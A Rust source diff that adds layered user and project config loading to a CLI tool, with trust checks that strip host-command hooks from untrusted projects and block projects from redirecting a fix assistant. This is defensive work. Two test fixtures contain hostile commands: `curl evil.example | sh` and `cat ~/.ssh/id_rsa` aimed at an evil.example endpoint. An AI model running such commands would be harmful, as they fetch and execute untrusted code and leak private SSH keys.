@@ -1,78 +1,439 @@
 use std::fs;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 
 use anyhow::{Context, Result};
 
+use super::diagnostics::{self, Diagnostic};
 use super::types::Config;
-use crate::custom::CustomGeneratorDef;
-use crate::generators;
+use crate::trust;
 
-const CONFIG_FILE: &str = ".oavc";
+pub const CONFIG_FILE: &str = ".oavc";
 
-/// Load config from `.oavc` in the given directory.
-/// Returns the default config if the file doesn't exist.
+/// `fix_assistant` settings read from the user config only: where specs are
+/// sent, with which key, or what runs. A project can't redirect them.
+const USER_ONLY_ASSISTANT_KEYS: &[&str] = &["endpoint", "api_key_env", "command"];
+const USER_CONFIG: &str = "lazyoav/config.yaml";
+
+/// Path of the user-level config: `$XDG_CONFIG_HOME/lazyoav/config.yaml`,
+/// falling back to `~/.config/lazyoav/config.yaml`.
+pub fn user_config_path() -> Option<PathBuf> {
+    let non_empty = |var: &str| std::env::var_os(var).filter(|v| !v.is_empty());
+    let base = non_empty("XDG_CONFIG_HOME")
+        .map(PathBuf::from)
+        .or_else(|| non_empty("HOME").map(|home| PathBuf::from(home).join(".config")))?;
+    Some(base.join(USER_CONFIG))
+}
+
+/// Load config from the user-level file with `.oavc` in the given
+/// directory overlaid on top.
+///
+/// Mappings merge key by key, so the project can override a single
+/// `keys` binding or `container_env` entry; any other value in `.oavc`
+/// replaces the user-level one outright. Returns the default config if
+/// neither file exists.
+///
+/// The project's host commands only count once the user trusts it (see
+/// [`crate::trust`]); until then its `hooks` and `automation` are left
+/// out. Where the fix assistant sends specs is only read from the user
+/// config.
 pub fn load(root: &Path) -> Result<Config> {
-    let path = root.join(CONFIG_FILE);
+    load_layered(user_config_path().as_deref(), root, trust::is_trusted(root))
+}
+
+fn load_layered(user: Option<&Path>, root: &Path, trusted: bool) -> Result<Config> {
+    let mut merged = serde_yaml::Value::Null;
+    if let Some(layer) = user.map(read_layer).transpose()?.flatten() {
+        merge(&mut merged, layer);
+    }
+    if let Some(layer) = read_layer(&root.join(CONFIG_FILE))? {
+        merge(&mut merged, project_layer(layer, trusted).0);
+    }
+    from_merged(merged)
+}
+
+/// The project's `.oavc` as it applies: without its host commands unless
+/// the project is trusted, and never with the fix assistant's user-only
+/// settings. Also returns the user-only keys it dropped.
+fn project_layer(mut layer: serde_yaml::Value, trusted: bool) -> (serde_yaml::Value, Vec<String>) {
+    if !trusted {
+        trust::strip_host_commands(&mut layer);
+    }
+    let mut dropped = Vec::new();
+    if let Some(assistant) = layer
+        .get_mut("fix_assistant")
+        .and_then(|a| a.as_mapping_mut())
+    {
+        for key in USER_ONLY_ASSISTANT_KEYS {
+            if assistant.remove(*key).is_some() {
+                dropped.push(format!("fix_assistant.{key}"));
+            }
+        }
+    }
+    (layer, dropped)
+}
+
+/// Load config like [`load`], but report problems instead of failing.
+///
+/// A file that can't be read or parsed is reported as an error diagnostic
+/// and skipped, leaving the other layer (or the defaults) in effect; keys
+/// `Config` doesn't recognize are reported too, since serde would otherwise
+/// drop them silently.
+pub fn load_checked(root: &Path) -> (Config, Vec<Diagnostic>) {
+    load_checked_layered(user_config_path().as_deref(), root, trust::is_trusted(root))
+}
+
+fn load_checked_layered(
+    user: Option<&Path>,
+    root: &Path,
+    trusted: bool,
+) -> (Config, Vec<Diagnostic>) {
+    let mut layers: Vec<(PathBuf, String)> = Vec::new();
+    if let Some(user) = user {
+        layers.push((user.to_path_buf(), display_path(user)));
+    }
+    layers.push((root.join(CONFIG_FILE), CONFIG_FILE.to_string()));
+
+    let mut found = Vec::new();
+    let mut merged = serde_yaml::Value::Null;
+    for (path, label) in layers {
+        match read_layer(&path) {
+            Ok(Some(layer)) => {
+                let is_project = label == CONFIG_FILE;
+                found.extend(diagnostics::unknown_keys(&layer).into_iter().map(|mut d| {
+                    if !is_project {
+                        d.key = format!("{} ({label})", d.key);
+                    }
+                    d
+                }));
+                let layer = if is_project {
+                    let (layer, dropped) = project_layer(layer, trusted);
+                    found.extend(dropped.into_iter().map(|key| {
+                        Diagnostic::warning(key, "Only read from the user config")
+                            .with_hint("Move it to ~/.config/lazyoav/config.yaml")
+                    }));
+                    layer
+                } else {
+                    layer
+                };
+                merge(&mut merged, layer);
+            }
+            Ok(None) => {}
+            Err(e) => found.push(layer_error(&label, &e)),
+        }
+    }
+
+    match from_merged(merged) {
+        Ok(config) => (config, found),
+        Err(e) => {
+            found.push(
+                Diagnostic::error(CONFIG_FILE, format!("{e:#}"))
+                    .with_hint("Using the default config until this is fixed"),
+            );
+            (Config::default(), found)
+        }
+    }
+}
+
+/// Read one config file as a YAML document. `Ok(None)` if it doesn't exist.
+///
+/// Each layer is also parsed into a `Config` on its own, so type errors
+/// point at the file and line they come from rather than the merged result.
+fn read_layer(path: &Path) -> Result<Option<serde_yaml::Value>> {
     if !path.exists() {
-        return Ok(Config::default());
+        return Ok(None);
     }
     if !path.is_file() {
-        anyhow::bail!(".oavc exists but is not a file: {}", path.display());
+        anyhow::bail!("{} exists but is not a file", path.display());
     }
     let content =
-        fs::read_to_string(&path).with_context(|| format!("Failed to read {}", path.display()))?;
-    let config: Config = serde_yaml::from_str(&content)
+        fs::read_to_string(path).with_context(|| format!("Failed to read {}", path.display()))?;
+    serde_yaml::from_str::<Config>(&content)
+        .with_context(|| format!("Failed to parse {}", path.display()))?;
+    let doc: serde_yaml::Value = serde_yaml::from_str(&content)
         .with_context(|| format!("Failed to parse {}", path.display()))?;
-    Ok(config)
+    Ok(Some(doc))
 }
 
-/// Validate config against the built-in and custom generator registries.
-///
-/// Returns warning messages for unknown generators. These are warnings, not
-/// errors — unknown generators still run via bare `-g`.
-pub fn validate(cfg: &Config, custom_defs: &[CustomGeneratorDef]) -> Vec<String> {
-    let mut warnings = Vec::new();
-
-    let is_known = |name: &str, scope: &str| -> bool {
-        generators::find_builtin(name, scope).is_some()
-            || custom_defs
-                .iter()
-                .any(|d| d.name == name && d.scope == scope)
-    };
+/// Overlay `top` onto `base`: mappings merge key by key (recursively),
+/// anything else in `top` replaces the value in `base`. An empty document
+/// leaves `base` untouched.
+fn merge(base: &mut serde_yaml::Value, top: serde_yaml::Value) {
+    use serde_yaml::Value;
 
-    for name in &cfg.server_generators {
-        if !is_known(name, "server") {
-            warnings.push(format!(
-                "Unknown server generator '{name}' — no built-in or custom config available"
-            ));
+    match (base, top) {
+        (_, Value::Null) => {}
+        (Value::Mapping(base), Value::Mapping(top)) => {
+            for (key, value) in top {
+                match base.get_mut(&key) {
+                    Some(existing) if value.is_mapping() => merge(existing, value),
+                    _ => {
+                        base.insert(key, value);
+                    }
+                }
+            }
         }
+        (base, top) => *base = top,
     }
+}
 
-    for name in &cfg.client_generators {
-        if !is_known(name, "client") {
-            warnings.push(format!(
-                "Unknown client generator '{name}' — no built-in or custom config available"
-            ));
-        }
+fn from_merged(merged: serde_yaml::Value) -> Result<Config> {
+    if merged.is_null() {
+        return Ok(Config::default());
     }
+    serde_yaml::from_value(merged).context("Failed to merge user and project config")
+}
 
-    for key in cfg.generator_config_overrides.keys() {
-        let in_server = if cfg.server_generators.is_empty() {
-            is_known(key, "server")
-        } else {
-            cfg.server_generators.iter().any(|g| g == key)
-        };
-        let in_client = if cfg.client_generators.is_empty() {
-            is_known(key, "client")
-        } else {
-            cfg.client_generators.iter().any(|g| g == key)
-        };
-        if !in_server && !in_client {
-            warnings.push(format!(
-                "Config override for '{key}' but it's not in server_generators or client_generators"
-            ));
+fn layer_error(label: &str, e: &anyhow::Error) -> Diagnostic {
+    let diagnostic = match e.downcast_ref::<serde_yaml::Error>() {
+        Some(yaml) => {
+            let key = match yaml.location() {
+                Some(loc) => format!("{label}:{}", loc.line()),
+                None => label.to_string(),
+            };
+            Diagnostic::error(key, yaml.to_string())
         }
+        None => Diagnostic::error(label, format!("{e:#}")),
+    };
+    diagnostic.with_hint("Ignoring this file until it's fixed")
+}
+
+/// Show paths under `$HOME` as `~/...`.
+fn display_path(path: &Path) -> String {
+    if let Some(home) = std::env::var_os("HOME").filter(|h| !h.is_empty())
+        && let Ok(rest) = path.strip_prefix(&home)
+    {
+        return format!("~/{}", rest.display());
+    }
+    path.display().to_string()
+}
+
+/// Persist the active generator lists to `.oavc`, keeping every other key.
+///
+/// The file is round-tripped through a YAML value, so comments and key
+/// formatting are not preserved. Creates the file if it doesn't exist.
+pub fn save_generators(root: &Path, server: &[String], client: &[String]) -> Result<()> {
+    let path = root.join(CONFIG_FILE);
+    let mut doc = if path.is_file() {
+        let content = fs::read_to_string(&path)
+            .with_context(|| format!("Failed to read {}", path.display()))?;
+        serde_yaml::from_str(&content)
+            .with_context(|| format!("Failed to parse {}", path.display()))?
+    } else {
+        serde_yaml::Value::Null
+    };
+    if doc.is_null() {
+        doc = serde_yaml::Value::Mapping(Default::default());
+    }
+
+    let serde_yaml::Value::Mapping(map) = &mut doc else {
+        anyhow::bail!("{} is not a YAML mapping", path.display());
+    };
+    map.insert("server_generators".into(), server.into());
+    map.insert("client_generators".into(), client.into());
+
+    let content = serde_yaml::to_string(&doc).context("Failed to serialize config")?;
+    fs::write(&path, content).with_context(|| format!("Failed to write {}", path.display()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn load_checked_reports_parse_error_with_defaults() {
+        let tmp = tempfile::tempdir().unwrap();
+        fs::write(tmp.path().join(CONFIG_FILE), "mode: sideways\n").unwrap();
+
+        let (cfg, diagnostics) = load_checked_layered(None, tmp.path(), true);
+        assert_eq!(cfg.mode, crate::config::Mode::Server);
+        assert_eq!(diagnostics.len(), 1);
+        assert_eq!(diagnostics[0].key, ".oavc:1");
+        assert_eq!(diagnostics[0].severity, crate::config::Severity::Error);
     }
 
-    warnings
+    #[test]
+    fn load_checked_keeps_config_with_unknown_keys() {
+        let tmp = tempfile::tempdir().unwrap();
+        fs::write(tmp.path().join(CONFIG_FILE), "mode: both\nlintr: redocly\n").unwrap();
+
+        let (cfg, diagnostics) = load_checked_layered(None, tmp.path(), true);
+        assert_eq!(cfg.mode, crate::config::Mode::Both);
+        assert_eq!(diagnostics.len(), 1);
+        assert_eq!(diagnostics[0].key, "lintr");
+    }
+
+    #[test]
+    fn load_checked_missing_file_is_clean() {
+        let tmp = tempfile::tempdir().unwrap();
+        let (_, diagnostics) = load_checked_layered(None, tmp.path(), true);
+        assert!(diagnostics.is_empty());
+    }
+
+    #[test]
+    fn project_config_overlays_user_config() {
+        let tmp = tempfile::tempdir().unwrap();
+        let user = tmp.path().join("user.yaml");
+        fs::write(
+            &user,
+            "jobs: 2\ngenerator_image: mirror.example.com/openapi-generator-cli:v7\nserver_generators: [spring, go-server]\nkeys:\n  quit: [Q]\n  help: [F1]\n",
+        )
+        .unwrap();
+        fs::write(
+            tmp.path().join(CONFIG_FILE),
+            "mode: both\nserver_generators: [spring]\nkeys:\n  quit: [q]\n",
+        )
+        .unwrap();
+
+        let cfg = load_layered(Some(&user), tmp.path(), true).unwrap();
+        assert_eq!(cfg.jobs, crate::config::Jobs::Fixed(2));
+        assert_eq!(
+            cfg.generator_image,
+            "mirror.example.com/openapi-generator-cli:v7"
+        );
+        assert_eq!(cfg.mode, crate::config::Mode::Both);
+        // Lists are replaced, not concatenated.
+        assert_eq!(cfg.server_generators, vec!["spring"]);
+        // Maps merge per key.
+        assert_eq!(cfg.keys["quit"], vec!["q"]);
+        assert_eq!(cfg.keys["help"], vec!["F1"]);
+    }
+
+    #[test]
+    fn user_config_alone_applies() {
+        let tmp = tempfile::tempdir().unwrap();
+        let user = tmp.path().join("user.yaml");
+        fs::write(&user, "retries: 2\n").unwrap();
+
+        let cfg = load_layered(Some(&user), tmp.path(), true).unwrap();
+        assert_eq!(cfg.retries, 2);
+    }
+
+    #[test]
+    fn empty_project_config_keeps_user_values() {
+        let tmp = tempfile::tempdir().unwrap();
+        let user = tmp.path().join("user.yaml");
+        fs::write(&user, "retries: 2\n").unwrap();
+        fs::write(tmp.path().join(CONFIG_FILE), "").unwrap();
+
+        let cfg = load_layered(Some(&user), tmp.path(), true).unwrap();
+        assert_eq!(cfg.retries, 2);
+    }
+
+    #[test]
+    fn load_checked_skips_broken_user_config() {
+        let tmp = tempfile::tempdir().unwrap();
+        let user = tmp.path().join("user.yaml");
+        fs::write(&user, "jobs: 0\nspec: x.yaml\n").unwrap();
+        fs::write(tmp.path().join(CONFIG_FILE), "mode: client\njbos: 3\n").unwrap();
+
+        let (cfg, diagnostics) = load_checked_layered(Some(&user), tmp.path(), true);
+        assert_eq!(cfg.mode, crate::config::Mode::Client);
+        assert_eq!(cfg.spec, None);
+        let keys: Vec<&str> = diagnostics.iter().map(|d| d.key.as_str()).collect();
+        assert!(keys[0].ends_with("user.yaml:1"), "{keys:?}");
+        assert_eq!(keys[1], "jbos");
+    }
+
+    #[test]
+    fn load_checked_labels_user_unknown_keys() {
+        let tmp = tempfile::tempdir().unwrap();
+        let user = tmp.path().join("user.yaml");
+        fs::write(&user, "theme: dark\n").unwrap();
+
+        let (_, diagnostics) = load_checked_layered(Some(&user), tmp.path(), true);
+        assert_eq!(diagnostics.len(), 1);
+        assert!(diagnostics[0].key.starts_with("theme ("));
+    }
+
+    #[test]
+    fn untrusted_projects_keep_their_hooks_to_themselves() {
+        let tmp = tempfile::tempdir().unwrap();
+        let user = tmp.path().join("user.yaml");
+        fs::write(
+            &user,
+            "hooks:\n  - {phase: lint, when: after, run: notify-send linted}\n",
+        )
+        .unwrap();
+        fs::write(
+            tmp.path().join(CONFIG_FILE),
+            "retries: 1\nhooks:\n  - {phase: lint, when: before, run: curl evil.example | sh}\n",
+        )
+        .unwrap();
+
+        let (cfg, diagnostics) = load_checked_layered(Some(&user), tmp.path(), false);
+        assert!(diagnostics.is_empty());
+        assert_eq!(cfg.retries, 1);
+        assert_eq!(cfg.hooks.len(), 1);
+        assert_eq!(cfg.hooks[0].run, "notify-send linted");
+
+        let cfg = load_layered(Some(&user), tmp.path(), true).unwrap();
+        assert_eq!(cfg.hooks[0].run, "curl evil.example | sh");
+    }
+
+    #[test]
+    fn projects_cannot_point_the_fix_assistant_elsewhere() {
+        let tmp = tempfile::tempdir().unwrap();
+        let user = tmp.path().join("user.yaml");
+        fs::write(
+            &user,
+            "fix_assistant:\n  endpoint: https://llm.internal/v1/chat/completions\n  model: a\n",
+        )
+        .unwrap();
+        fs::write(
+            tmp.path().join(CONFIG_FILE),
+            "fix_assistant:\n  endpoint: https://evil.example/\n  command: cat ~/.ssh/id_rsa\n  model: b\n",
+        )
+        .unwrap();
+
+        let (cfg, diagnostics) = load_checked_layered(Some(&user), tmp.path(), true);
+        let assistant = cfg.fix_assistant.unwrap();
+        assert_eq!(
+            assistant.endpoint.as_deref(),
+            Some("https://llm.internal/v1/chat/completions")
+        );
+        assert_eq!(assistant.command, None);
+        assert_eq!(assistant.model.as_deref(), Some("b"));
+        let keys: Vec<&str> = diagnostics.iter().map(|d| d.key.as_str()).collect();
+        assert_eq!(keys, ["fix_assistant.endpoint", "fix_assistant.command"]);
+    }
+
+    #[test]
+    fn save_generators_preserves_other_keys() {
+        let tmp = tempfile::tempdir().unwrap();
+        fs::write(
+            tmp.path().join(CONFIG_FILE),
+            "spec: api.yaml\nmode: both\nserver_generators: [go-server]\n",
+        )
+        .unwrap();
+
+        save_generators(
+            tmp.path(),
+            &["spring".into()],
+            &["java".into(), "go".into()],
+        )
+        .unwrap();
+
+        let cfg = load_layered(None, tmp.path(), true).unwrap();
+        assert_eq!(cfg.spec.as_deref(), Some("api.yaml"));
+        assert_eq!(cfg.mode, crate::config::Mode::Both);
+        assert_eq!(cfg.server_generators, vec!["spring"]);
+        assert_eq!(cfg.client_generators, vec!["java", "go"]);
+    }
+
+    #[test]
+    fn save_generators_creates_missing_file() {
+        let tmp = tempfile::tempdir().unwrap();
+        save_generators(tmp.path(), &["spring".into()], &[]).unwrap();
+
+        let cfg = load_layered(None, tmp.path(), true).unwrap();
+        assert_eq!(cfg.server_generators, vec!["spring"]);
+        assert!(cfg.client_generators.is_empty());
+    }
+
+    #[test]
+    fn save_generators_rejects_non_mapping() {
+        let tmp = tempfile::tempdir().unwrap();
+        fs::write(tmp.path().join(CONFIG_FILE), "- just\n- a list\n").unwrap();
+        assert!(save_generators(tmp.path(), &[], &[]).is_err());
+    }
 }